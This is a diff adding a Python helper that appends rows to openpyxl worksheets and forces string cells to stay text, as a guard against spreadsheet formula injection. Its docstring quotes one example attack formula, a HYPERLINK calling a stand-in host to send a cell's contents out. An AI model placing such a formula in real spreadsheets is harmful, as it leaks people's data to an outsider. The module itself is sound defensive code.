@@ -1,0 +1,18 @@
+"""Writing rows into workbooks so that text stays text.
+
+openpyxl turns any string that starts with "=" into a formula, so a vendor's leave reason
+`=HYPERLINK("http://evil.example/?"&C3,"证明")` would become a live link in the ledger that sends
+other members' names to a stranger when clicked. Every workbook the service writes appends its
+rows through `append`, which stores each string as a string (data type "s"), never a formula.
+Numbers stay numbers.
+"""
+from __future__ import annotations
+
+from openpyxl.cell.cell import TYPE_STRING
+
+
+def append(ws, values) -> None:
+    ws.append(list(values))
+    for cell in ws[ws.max_row]:
+        if isinstance(cell.value, str):
+            cell.data_type = TYPE_STRING
